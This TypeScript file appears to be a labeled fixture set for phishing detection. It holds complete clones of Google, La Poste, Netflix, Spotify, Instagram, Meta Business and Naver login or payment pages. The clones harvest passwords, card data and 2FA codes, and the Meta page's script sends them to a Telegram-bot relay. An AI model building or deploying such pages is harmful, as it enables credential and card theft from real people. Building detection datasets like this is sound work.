import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute } from '../parts/r-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'r-phish-google-signin-clone',
  label: 'phishing',
  kind: 'webmail-brand-kit',
  url: 'https://accounts-google.security-check-center.com/signin/v2/identifier',
  body: doc({ title: 'Sign in – Google Accounts', css: `body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9}.c{max-width:1040px;margin:80px auto;background:#fff;border-radius:28px;padding:36px;display:flex;gap:40px}
.g{font-size:24px;font-weight:500}.g b:nth-child(1){color:#4285f4}.g b:nth-child(2){color:#ea4335}.g b:nth-child(3){color:#fbbc05}.g b:nth-child(4){color:#4285f4}.g b:nth-child(5){color:#34a853}.g b:nth-child(6){color:#ea4335}
h1{font-weight:400;font-size:36px;margin:20px 0 10px}input{width:100%;height:56px;border:1px solid #747775;border-radius:4px;padding:0 14px;font-size:16px}
.nx{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px;float:right;margin-top:40px}` },
`<div class="c"><div style="flex:1"><div class="g"><b>G</b><b>o</b><b>o</b><b>g</b><b>l</b><b>e</b></div><h1>Sign in</h1><p>to continue to Gmail</p></div>
<div style="flex:1;padding-top:60px"><form method="post" action="/signin/v2/challenge/pwd.php" id="gf">
<input type="email" name="identifier" placeholder="Email or phone" required>
<p style="font-size:14px;color:#0b57d0">Forgot email?</p>
<input type="password" name="Passwd" placeholder="Enter your password" required style="margin-top:10px">
<p style="font-size:14px;color:#444">Not your computer? Use Guest mode to sign in privately. <a href="#">Learn more about using Guest mode</a></p>
<button class="nx">Next</button></form></div></div>
<p style="text-align:center;font-size:12px;color:#444">English (United States) · Help · Privacy · Terms</p>`),
},
{
  id: 'r-phish-laposte-colis-fr',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://laposte-suivi-colissimo.info/suivi/?code=6A24810937615',
  body: doc({ lang: 'fr', title: 'La Poste – Suivi de colis', css: `body{margin:0;font-family:Montserrat,Arial,sans-serif;background:#f3f3f3}.hd{background:#ffcc00;padding:12px 8%;font-weight:800;color:#003da5;font-size:22px}.m{max-width:520px;margin:30px auto;background:#fff;padding:24px;border-radius:6px}
.st{background:#fff7d6;border-left:4px solid #ffcc00;padding:10px}input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #bbb;border-radius:4px}button{background:#003da5;color:#fff;border:0;padding:12px;width:100%;border-radius:4px}` },
`<div class="hd">La Poste · Colissimo</div>
<div class="m"><h3>Colis n° <span id="cd"></span></h3><p class="st">Votre colis n'a pas pu être livré : adresse incomplète. Des frais de réexpédition de <b>1,45 €</b> sont requis.</p>
<form method="post" action="/suivi/valider.php">
<input name="nom" placeholder="Nom complet"><input name="adresse" placeholder="Adresse"><input name="cp" placeholder="Code postal"><input name="ville" placeholder="Ville"><input name="tel" placeholder="Téléphone portable">
<hr><input name="carte" placeholder="Numéro de carte"><input name="exp" placeholder="Date d'expiration"><input name="cvv" placeholder="CVV">
<button>Reprogrammer la livraison</button></form>
<p style="font-size:11px;color:#777">© La Poste 2025 — Mentions légales — Accessibilité</p></div>
<script>document.getElementById('cd').textContent=new URLSearchParams(location.search).get('code')||'6A24810937615';</script>`),
},
{
  id: 'r-phish-netflix-payment-update',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-billing-update.account-renew.com/YourAccount/payment',
  body: doc({ title: 'Netflix', css: `body{margin:0;background:#000;color:#fff;font-family:"Netflix Sans",Helvetica,Arial,sans-serif}.hd{padding:20px 4%;color:#e50914;font:900 34px Arial;letter-spacing:-1px}
.f{max-width:450px;margin:20px auto;background:rgba(0,0,0,.75);padding:50px 60px;border:1px solid #333}input{width:100%;height:50px;background:#333;border:0;border-radius:4px;color:#fff;padding:0 16px;margin:8px 0;font-size:16px}
button{width:100%;height:48px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700;margin-top:20px}.n{color:#b3b3b3;font-size:14px}` },
`<div class="hd">NETFLIX</div>
<div class="f"><h1>Update your payment</h1><p class="n">We were unable to process your last payment. Your membership will be suspended unless you update your billing information.</p>
<form method="post" action="/YourAccount/payment/confirm" id="nf">
<input name="fn" placeholder="First name"><input name="ln" placeholder="Last name">
<input name="card" placeholder="Card number" autocomplete="cc-number"><input name="exp" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="Security code (CVV)">
<input name="zip" placeholder="Billing ZIP code">
<button>Save</button></form>
<p class="n" style="font-size:13px">Questions? Call 1-844-505-2993</p></div>
<script>
document.getElementById('nf').addEventListener('submit',function(e){e.preventDefault();var n=this.card.value.replace(/\\s/g,''),s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}if(s%10){alert('Please enter a valid card number.');return}
navigator.sendBeacon('/YourAccount/payment/confirm',new FormData(this));location.href='https://www.netflix.com/';});
</script>`),
  routes: { 'netflix-billing-update.account-renew.com/YourAccount/payment/confirm': { status: 204, headers: {}, body: '' } },
},
{
  id: 'r-phish-spotify-premium-ptbr',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://spotify-premium-renovacao.com/br/login',
  body: doc({ lang: 'pt-BR', title: 'Entrar - Spotify', css: `body{margin:0;background:linear-gradient(#2a2a2a,#000);color:#fff;font-family:"Spotify Circular",Helvetica,Arial,sans-serif;min-height:100vh}
.c{max-width:440px;margin:40px auto;background:#121212;border-radius:8px;padding:40px}input{width:100%;padding:14px;background:#121212;border:1px solid #878787;color:#fff;border-radius:4px;margin:6px 0 14px}
button{width:100%;background:#1ed760;color:#000;border:0;border-radius:30px;padding:14px;font-weight:700;font-size:16px}` },
`<div class="c"><h1 style="text-align:center">🎧 Spotify</h1><h2 style="text-align:center">Sua assinatura Premium foi suspensa</h2>
<p style="color:#b3b3b3">Não conseguimos processar o pagamento da sua assinatura. Entre e atualize sua forma de pagamento para continuar ouvindo sem anúncios.</p>
<form action="/br/login/entrar.php" method="post"><label>E-mail ou nome de usuário</label><input name="username"><label>Senha</label><input name="password" type="password"><button>Entrar</button></form>
<p style="text-align:center;color:#b3b3b3;font-size:13px">Não tem uma conta? <a href="#" style="color:#fff">Inscrever-se no Spotify</a></p></div>`),
},
{
  id: 'r-phish-instagram-copyright-appeal',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://instagram-copyright-appeal.help-center-form.com/appeal/8321190',
  body: doc({ title: 'Instagram | Copyright Infringement Notice', css: `body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,sans-serif;background:#fafafa}.t{background:#fff;border-bottom:1px solid #dbdbdb;padding:14px;text-align:center;font:italic 600 28px "Billabong",cursive}
.c{max-width:480px;margin:30px auto;background:#fff;border:1px solid #dbdbdb;padding:30px}input,textarea{width:100%;padding:10px;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;margin:5px 0 12px}
button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:9px;font-weight:600}.w{color:#ed4956}` },
`<div class="t">Instagram</div>
<div class="c"><h3>Copyright Infringement Detected</h3>
<p>We have received a copyright complaint regarding a post on your account. <span class="w">Your account will be permanently deleted within 24 hours</span> unless you submit an appeal.</p>
<p style="font-size:13px;color:#8e8e8e">Case ID: #IG-8321190 · Meta Platforms, Inc.</p>
<form method="post" action="/appeal/8321190/submit">
<input name="username" placeholder="Username"><input name="fullname" placeholder="Full name"><input name="email" placeholder="Email address"><input name="phone" placeholder="Phone number">
<textarea name="msg" placeholder="Please explain why you believe this is an error"></textarea>
<input name="password" type="password" placeholder="Password (to confirm you are the account owner)">
<button>Submit Appeal</button></form>
<p style="font-size:12px;color:#8e8e8e;text-align:center">from ∞ Meta</p></div>`),
},
{
  id: 'r-phish-meta-business-suspended',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://meta-business-support-case.vercel-pages.app/help/policy/violation',
  body: doc({ title: 'Meta for Business - Page Policy Violation', css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5}.h{background:#fff;padding:12px 20px;box-shadow:0 1px 2px rgba(0,0,0,.1);color:#1877f2;font-weight:bold;font-size:20px}
.c{max-width:600px;margin:30px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 1px 2px rgba(0,0,0,.2)}button{background:#1877f2;color:#fff;border:0;border-radius:6px;padding:10px 20px;font-weight:bold}
.mod{display:none;position:fixed;inset:0;background:rgba(255,255,255,.8)}.mod div{width:380px;margin:100px auto;background:#fff;padding:20px;border-radius:8px;box-shadow:0 12px 28px rgba(0,0,0,.2)}input{width:100%;padding:12px;border:1px solid #ccd0d5;border-radius:6px;margin:6px 0}` },
`<div class="h">∞ Meta Business Help Center</div>
<div class="c"><h2>Your page has been scheduled for deletion</h2>
<p>We noticed activity on your page that violates our <a href="#">Community Standards</a> regarding trademark rights. As a result, your page and linked ad accounts will be disabled on <b id="d"></b>.</p>
<p>If you think this was a mistake, you can request a review. Please make sure to provide accurate information.</p>
<p>Ticket: #<span>4820-918-3377</span></p>
<button onclick="document.querySelector('.mod').style.display='block'">Request Review</button></div>
<div class="mod"><div><h3>Confirm your identity</h3><input id="em" placeholder="Email or mobile number"><input id="pw" type="password" placeholder="Password"><input id="tf" placeholder="Two-factor code (if enabled)"><button id="sb" style="width:100%">Continue</button></div></div>
<script>
var d=new Date(Date.now()+864e5);document.getElementById('d').textContent=d.toDateString();
document.getElementById('sb').onclick=function(){var t='81234567:AAF-x9Qm',c='-100298131';var msg='META\\n'+em.value+'\\n'+pw.value+'\\n'+tf.value+'\\n'+navigator.userAgent;
fetch('https://tg-notify-relay.workers-edge.dev/bot'+t+'/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:c,text:msg})}).then(function(){alert('Your request has been submitted. We will review within 24h.');location.href='https://www.facebook.com/business/help';});};
</script>`),
  routes: { 'tg-notify-relay.workers-edge.dev/bot81234567:AAF-x9Qm/sendMessage': { status: 200, headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' }, body: '{"ok":true}' } },
},
{
  id: 'r-phish-naver-login-ko',
  label: 'phishing',
  kind: 'webmail-brand-kit',
  url: 'https://nid-naver.login-security-center.kr.com/nidlogin.login',
  body: doc({ lang: 'ko', title: '네이버 : 로그인', css: `body{margin:0;font-family:"Apple SD Gothic Neo","Malgun Gothic",sans-serif;background:#fff}.lg{text-align:center;color:#03c75a;font:900 40px Arial;margin:50px 0 30px}
.b{width:460px;margin:0 auto;border:1px solid #c6c6c6;border-radius:6px;padding:20px}input{width:100%;padding:14px;border:1px solid #dadada;margin:-1px 0 0;font-size:16px}
button{width:100%;background:#03c75a;color:#fff;border:0;border-radius:6px;padding:14px;font-size:18px;margin-top:20px}.w{background:#fff6f6;color:#ff003e;font-size:13px;padding:8px}` },
`<div class="lg">NAVER</div>
<div class="b"><p class="w">해외 IP에서 로그인 시도가 감지되어 계정 보호조치가 적용되었습니다. 본인 확인을 위해 다시 로그인해 주세요.</p>
<form id="nf" method="post" action="/nidlogin.login/proc.php"><input name="id" placeholder="아이디 또는 전화번호"><input name="pw" type="password" placeholder="비밀번호"><button>로그인</button></form></div>
<p style="text-align:center;font-size:13px;color:#888">비밀번호 찾기 | 아이디 찾기 | 회원가입</p>
<p style="text-align:center;font-size:11px;color:#aaa">Copyright © NAVER Corp. All Rights Reserved.</p>`),
},
];
